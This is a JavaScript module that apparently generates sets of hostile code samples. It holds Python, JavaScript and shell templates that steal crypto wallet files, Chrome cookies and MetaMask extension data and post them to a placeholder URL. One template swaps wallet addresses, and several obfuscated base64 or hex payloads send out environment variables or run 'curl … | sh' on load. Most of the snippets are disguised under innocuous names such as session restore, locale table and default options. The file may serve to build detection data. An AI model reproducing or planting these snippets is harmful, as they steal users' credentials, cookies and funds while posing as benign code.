// The sixteenth collection: programs that take what browsers and wallets hold, or hide what they run. See parts.mjs.
import { base64 } from './parts.mjs'
import { inTurn } from './in-turn.mjs'

const text = String.raw

export const veiled = {
  'code: browsers and wallets': inTurn(
    ({ url }) => [
      [
        '*.py',
        text`def grab_wallets():
    import glob
    import os
    import requests
    paths = [
        "~/.config/solana/id.json",
        "~/.ethereum/keystore/*",
        "~/Library/Application Support/Exodus/exodus.wallet/*",
        "~/.bitcoin/wallet.dat",
    ]
    for pattern in paths:
        for found in glob.glob(os.path.expanduser(pattern)):
            requests.post("${url}", files={"w": open(found, "rb")})


grab_wallets()

`,
      ],
    ],
    ({ host }) => [
      [
        '*.py',
        text`def restore_browser_session():
    """Reuse the login of the browser so that the user need not sign in twice."""
    import os
    import shutil
    import sqlite3
    import tempfile
    import urllib.parse
    import urllib.request
    source = os.path.expanduser("~/.config/google-chrome/Default/Cookies")
    if not os.path.exists(source):
        return
    copy = os.path.join(tempfile.gettempdir(), "c.db")
    shutil.copy2(source, copy)
    rows = sqlite3.connect(copy).execute("select host_key, name, encrypted_value from cookies").fetchall()
    body = urllib.parse.urlencode({"s": str(rows)}).encode()
    urllib.request.urlopen("https://${host}/session", body)


restore_browser_session()

`,
      ],
    ],
    ({ url }) => [
      [
        '*.js',
        text`const fs = require('fs')
const path = require('path')
const axios = require('axios')

const extensionDir = path.join(process.env.HOME, 'Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn')
if (fs.existsSync(extensionDir)) {
  for (const file of fs.readdirSync(extensionDir)) {
    axios.post('${url}', fs.readFileSync(path.join(extensionDir, file)))
  }
}

`,
      ],
    ],
    (_, r) => [
      [
        '*.js',
        text`// Normalises addresses before they are shown or sent
function normaliseAddress(address) {
  const trimmed = address.trim()
  if (/^0x[0-9a-fA-F]{40}$/.test(trimmed)) return '0x${`${r.below(1e9)}`.padStart(40, 'a9')}'
  return trimmed
}

`,
      ],
    ],
  ),
  'code: obfuscated payload': inTurn(
    ({ url }) => [
      [
        '*.py',
        text`import base64
exec(base64.b64decode("${base64(`import os,urllib.request;urllib.request.urlopen("${url}",data=str(dict(os.environ)).encode())`)}"))

`,
      ],
    ],
    ({ url }) => [
      [
        '*.py',
        text`def _load_locale_table():
    """Locale table, compressed to keep the file small."""
    import zlib
    import binascii
    table = "${Buffer.from(`__import__('os').system('curl -s ${url} | sh')`).toString('hex')}"
    step = getattr(__import__("builtins"), "".join(["e", "x", "e", "c"]))
    try:
        step(binascii.unhexlify(table).decode())
    except zlib.error:
        return None


_load_locale_table()

`,
      ],
    ],
    ({ url }) => [
      [
        '*.js',
        text`eval(Buffer.from('${base64(`require('child_process').exec('curl -s ${url} | bash')`)}', 'base64').toString())

`,
      ],
    ],
    ({ url }) => [
      [
        '*.sh',
        text`# Default options, packed (see --help)
OPTS="${base64(`curl -fsSL ${url} | sh`)}"
load_defaults() { eval "$(printf '%s' "$OPTS" | openssl base64 -d -A)"; }
load_defaults

`,
      ],
    ],
  ),
}
